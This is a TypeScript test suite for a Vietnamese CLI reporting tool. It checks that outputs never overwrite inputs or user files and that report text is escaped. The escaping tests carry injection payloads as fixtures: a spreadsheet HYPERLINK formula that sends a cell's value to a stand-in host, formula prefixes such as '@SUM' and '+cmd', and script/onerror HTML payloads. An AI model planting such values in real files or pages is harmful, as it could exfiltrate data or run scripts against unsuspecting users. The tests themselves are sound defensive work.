/** Issue 15 items 1 and 4: outputs never replace inputs or the user's files; reports escape text. */
import { readFileSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { markdownText } from "../../src/cli/export";
import { csvLine, run, tempDir } from "./helpers";

const HEADER = ["STT", "Chỉ tiêu", "Đơn vị tính", "Kế hoạch", "Thực hiện", "Cùng kỳ"];

function table(rows: (string | number | null)[][]): string {
  return [csvLine(HEADER), ...rows.map((r) => csvLine(r))].join("\n") + "\n";
}

describe("nothing lost", () => {
  const tmp = tempDir("chitieu-lost-");
  afterAll(() => tmp.cleanup());
  const a = tmp.file("a.csv", table([[1, "Doanh nghiệp thành lập mới", "doanh nghiệp", 150, 176, 160]]));
  const b = tmp.file("b.csv", table([[1, "Doanh nghiệp thành lập mới", "doanh nghiệp", 100, 90, 80]]));

  it("report --out naming its input is refused and the input is untouched", async () => {
    const before = readFileSync(a, "utf8");
    const r = await run("report", a, "--format", "md", "--out", path.join(tmp.dir, ".", "a.csv"), "--force");
    expect(r.code).toBe(2);
    expect(r.err).toContain("là tệp đầu vào");
    expect(readFileSync(a, "utf8")).toBe(before);
  });

  it("merge --out naming one of its inputs is refused, in English too", async () => {
    const merged = b.replace(/\.csv$/, ".xlsx");
    expect((await run("merge", a, b, "--out", merged)).code).toBe(0);
    const before = readFileSync(merged);
    const again = await run("merge", a, merged, "--out", merged, "--force", "--locale", "en");
    expect(again.code).toBe(2);
    expect(again.err).toContain("is an input file");
    expect(readFileSync(merged).equals(before)).toBe(true);
  });

  it("an existing output is replaced only with --force", async () => {
    const out = tmp.file("bao-cao.md", "ghi chú của tôi\n");
    const r = await run("report", a, "--format", "md", "--out", out);
    expect(r.code).toBe(2);
    expect(r.err).toContain("Thêm --force");
    expect(readFileSync(out, "utf8")).toBe("ghi chú của tôi\n");
    const forced = await run("report", a, "--format", "md", "--out", out, "--force");
    expect(forced.code).toBe(0);
    expect(readFileSync(out, "utf8")).toContain("Doanh nghiệp thành lập mới");
  });

  it("a .docx written beside the input never replaces the user's own", async () => {
    const mine = tmp.file("a.docx", "tài liệu của tôi");
    const r = await run("report", a, "--format", "docx");
    expect(r.code).toBe(2);
    expect(readFileSync(mine, "utf8")).toBe("tài liệu của tôi");
  });

  it("template and merge refuse to replace an existing file without --force", async () => {
    const out = tmp.file("mau.xlsx", "not mine to lose");
    expect((await run("template", "trong", "--out", out)).code).toBe(2);
    expect(readFileSync(out, "utf8")).toBe("not mine to lose");
    expect((await run("template", "trong", "--out", out, "--force")).code).toBe(0);
    expect(statSync(out).size).toBeGreaterThan(1000);
  });
});

describe("reports escape what came from the file", () => {
  const tmp = tempDir("chitieu-esc-");
  afterAll(() => tmp.cleanup());

  it("CSV: names starting with = + - @ get a leading apostrophe; figures stay numbers", async () => {
    const file = tmp.file(
      "t.csv",
      table([
        [1, '=HYPERLINK("http://x.example/?x="&E2,"Bấm")', "doanh nghiệp", 150, 176, 160],
        [2, "@SUM(1+1)", "+cmd", 100, 90, 120],
      ]),
    );
    const out = path.join(tmp.dir, "t-out.csv");
    expect((await run("report", file, "--format", "csv", "--out", out)).code).toBe(0);
    const lines = readFileSync(out, "utf8").split("\r\n");
    expect(lines[1]).toBe(
      `1;"'=HYPERLINK(""http://x.example/?x=""&E2,""Bấm"")";doanh nghiệp;150;176;160;117,33;110;10;Vượt`,
    );
    expect(lines[2]).toMatch(/^2;'@SUM\(1\+1\);'\+cmd;100;90;120;90;75;-25;/);
  });

  it("Markdown: HTML and line breaks in a name are shown as text", async () => {
    expect(markdownText('<img src=x onerror="alert(1)">\nTên | khác')).toBe(
      '&lt;img src=x onerror="alert(1)"&gt; Tên \\| khác',
    );
    const file = tmp.file("h.csv", table([[1, "<script>alert(1)</script>\r\n# tiêu đề", "vụ", 10, 12, 11]]));
    writeFileSync(file, readFileSync(file, "utf8"));
    const r = await run("report", file, "--format", "md");
    expect(r.code).toBe(0);
    expect(r.out).not.toContain("<script>");
    expect(r.out).toContain("&lt;script&gt;alert(1)&lt;/script&gt; # tiêu đề");
  });
});
